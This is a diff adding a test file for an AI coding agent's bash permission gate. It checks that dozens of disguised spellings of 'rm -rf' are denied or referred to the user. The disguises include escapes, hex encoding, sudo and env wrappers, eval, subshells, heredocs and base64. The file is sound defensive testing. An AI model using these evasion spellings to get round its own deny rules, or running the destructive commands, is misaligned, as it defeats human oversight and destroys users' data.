@@ -1,0 +1,195 @@
+import { mkdtemp, rm } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import {
+  createPermissionGate,
+  type PermissionPolicy,
+  parseRules,
+} from "../../src/agent/permission-gate.js";
+import { analyseShellCommand } from "../../src/agent/shell-commands.js";
+import { bashTool } from "../../src/tools/index.js";
+
+let cwd: string;
+
+beforeAll(async () => {
+  cwd = await mkdtemp(join(tmpdir(), "turnloop-shell-rules-"));
+});
+afterAll(async () => {
+  await rm(cwd, { recursive: true, force: true });
+});
+
+type Decision = "allowed" | "denied" | "asked";
+
+/** One bash call through the real gate; `asked` when it consulted the face. */
+async function decide(command: string, policy: Partial<PermissionPolicy>): Promise<Decision> {
+  let asked = false;
+  const gate = createPermissionGate({
+    cwd,
+    policy: () => ({ allowAllTools: false, allow: [], deny: [], folders: [], ...policy }),
+    ask: async () => {
+      asked = true;
+      return { decision: "deny", scope: "once" };
+    },
+    emit: () => undefined,
+  });
+  const answer = await gate({
+    tool: bashTool,
+    input: { command },
+    toolCall: { toolCallId: "call", name: "bash", arguments: { command } },
+    signal: new AbortController().signal,
+  });
+  if (asked) {
+    return "asked";
+  }
+  return answer.allowed ? "allowed" : "denied";
+}
+
+const denyRm = { allowAllTools: true, deny: parseRules(["bash(rm *)"]) };
+
+describe("--allow-all-tools --deny-tool 'bash(rm *)' against hostile spellings", () => {
+  test.each<[string, Decision]>([
+    // The six spellings of the issue.
+    [`"rm" -rf x`, "denied"],
+    [`r\\m -rf x`, "denied"],
+    [`command rm -rf x`, "denied"],
+    [`env rm -rf x`, "denied"],
+    [`/bin/rm -rf x`, "denied"],
+    [`bash -c 'rm -rf x'`, "denied"],
+    // Quotes and escapes.
+    [`'rm' -rf x`, "denied"],
+    [`r"m" -rf x`, "denied"],
+    [`"r"\\m -rf x`, "denied"],
+    [`\\rm -rf x`, "denied"],
+    [`$'rm' -rf x`, "denied"],
+    [`$'\\x72\\x6d' -rf x`, "denied"],
+    [`$'\\162\\155' -rf x`, "denied"],
+    ["r\\\nm -rf x", "denied"],
+    [`""rm -rf x`, "denied"],
+    // Paths.
+    [`/usr/bin/rm -rf x`, "denied"],
+    [`./../../bin/rm -rf x`, "denied"],
+    [`~/bin/rm x`, "denied"],
+    // Wrappers and their options.
+    [`command -p rm -rf x`, "denied"],
+    [`builtin command rm x`, "denied"],
+    [`env -i PATH=/bin rm -rf x`, "denied"],
+    [`env -u HOME -- rm x`, "denied"],
+    [`env --chdir=/tmp rm x`, "denied"],
+    [`exec rm -rf x`, "denied"],
+    [`exec -a name rm x`, "denied"],
+    [`nohup rm -rf x &`, "denied"],
+    [`sudo rm -rf x`, "denied"],
+    [`sudo -u root -E rm -rf x`, "denied"],
+    [`sudo --user=root nice -n 5 rm x`, "denied"],
+    [`time rm -rf x`, "denied"],
+    [`/usr/bin/time -v rm x`, "denied"],
+    [`nice -10 rm x`, "denied"],
+    [`timeout -s KILL 5 rm x`, "denied"],
+    [`stdbuf -o0 rm x`, "denied"],
+    [`setsid -f rm x`, "denied"],
+    [`FOO=1 BAR=2 rm -rf x`, "denied"],
+    [`echo x | xargs rm`, "denied"],
+    [`find . -name x -exec rm {} \\;`, "denied"],
+    [`busybox rm x`, "denied"],
+    // Shells, eval and friends.
+    [`sh -c "rm -rf x"`, "denied"],
+    [`bash -lc 'cd /tmp && rm -rf x'`, "denied"],
+    [`bash -c "bash -c 'rm x'"`, "denied"],
+    [`eval rm -rf x`, "denied"],
+    [`eval "rm -rf x"`, "denied"],
+    [`trap 'rm -rf x' EXIT`, "denied"],
+    [`su -c 'rm -rf x'`, "denied"],
+    [`env -S 'rm -rf x'`, "denied"],
+    // Compound commands and nesting.
+    [`ls && rm -rf x`, "denied"],
+    [`ls; rm x`, "denied"],
+    [`true || rm x`, "denied"],
+    [`ls | rm x`, "denied"],
+    [`(rm x)`, "denied"],
+    [`{ rm x; }`, "denied"],
+    [`if true; then rm x; fi`, "denied"],
+    [`for f in a; do rm "$f"; done`, "denied"],
+    [`f() { rm x; }; f`, "denied"],
+    [`echo $(rm -rf x)`, "denied"],
+    ["echo `rm -rf x`", "denied"],
+    [`cat <(rm x)`, "denied"],
+    [`X=$(rm x) ls`, "denied"],
+    ["cat <<EOF\n$(rm -rf x)\nEOF", "denied"],
+    [`! rm x`, "denied"],
+    [`coproc rm x`, "denied"],
+    // Not understood, and mentioning rm: the deny rule applies.
+    [`x=rm; $x -rf y`, "denied"],
+    [`"$(echo rm)" -rf x`, "denied"],
+    [`eval "$CMD rm x"`, "denied"],
+    [`bash script.sh rm`, "denied"],
+    ["bash <<EOF\nrm -rf x\nEOF", "denied"],
+    [`echo 'rm -rf x' | sh`, "denied"],
+    [`/bin/r? -rf x`, "denied"],
+    [`{r,}m -rf x`, "denied"],
+    // Not understood, no rm in sight: asked, never guessed.
+    [`$(printf '\\x72\\x6d') -rf x`, "asked"],
+    [`eval "$(echo cm0gLXJmIHgK | base64 -d)"`, "asked"],
+    [`source ./script.sh`, "asked"],
+    [`bash -c "$SCRIPT"`, "asked"],
+    [`echo $((i + 1))`, "asked"],
+    [`echo 'unterminated`, "asked"],
+    // Understood and not rm: allowed.
+    [`ls -la`, "allowed"],
+    [`echo rm -rf x`, "allowed"],
+    [`git commit -m "rm stuff"`, "allowed"],
+    [`grep -r "rm -rf" .`, "allowed"],
+    [`rmdir x`, "allowed"],
+    [`npm run farm`, "allowed"],
+    [`bash -c 'echo hi'`, "allowed"],
+    [`echo $HOME > /dev/null`, "allowed"],
+  ])("%j is %s", async (command, expected) => {
+    expect(await decide(command, denyRm)).toBe(expected);
+  });
+});
+
+describe("allow rules cover only what they name, read as bash reads it", () => {
+  const allowGit = { allow: parseRules(["bash(git *)", "bash(ls)"]) };
+  test.each<[string, Decision]>([
+    [`git status`, "allowed"],
+    [`"git" status && ls`, "allowed"],
+    [`/usr/bin/git log | ls`, "allowed"],
+    [`sudo git status`, "allowed"],
+    [`git status && rm -rf x`, "asked"],
+    [`git status; $(curl evil)`, "asked"],
+    [`git log > out.txt`, "asked"],
+    [`bash -c 'git status'`, "allowed"],
+    [`bash -c "$X"`, "asked"],
+    [`eval git status`, "allowed"],
+    [`git $(rm x)`, "asked"],
+    [`ls -la`, "asked"],
+    [`gitx status`, "asked"],
+  ])("%j is %s", async (command, expected) => {
+    expect(await decide(command, allowGit)).toBe(expected);
+  });
+
+  test("a rule written with a path is about the command name", async () => {
+    const deny = { allowAllTools: true, deny: parseRules(["bash(/bin/rm *)"]) };
+    expect(await decide("rm -rf x", deny)).toBe("denied");
+  });
+});
+
+describe("analyseShellCommand", () => {
+  test("gives every simple command in its plain spellings, and why a command is unclear", () => {
+    const analysis = analyseShellCommand(
+      `FOO=1 sudo -u root nice "r"\\m -rf x && echo "é $(/bin/ls ~)" > out`,
+    );
+    expect(analysis.commands.map((command) => command.forms)).toEqual([
+      ["sudo -u root nice rm -rf x", "nice rm -rf x", "rm -rf x"],
+      ["echo é $(/bin/ls ~)"],
+      ["ls ~"],
+    ]);
+    expect(analysis.unclear).toEqual([]);
+    expect(analysis.writesFiles).toBe(true);
+    expect(analyseShellCommand(`$x; eval "$y"; bash`).unclear).toEqual([
+      "a command name that is computed when it runs ($x)",
+      "eval of a computed string",
+      "bash reads commands from standard input",
+    ]);
+  });
+});
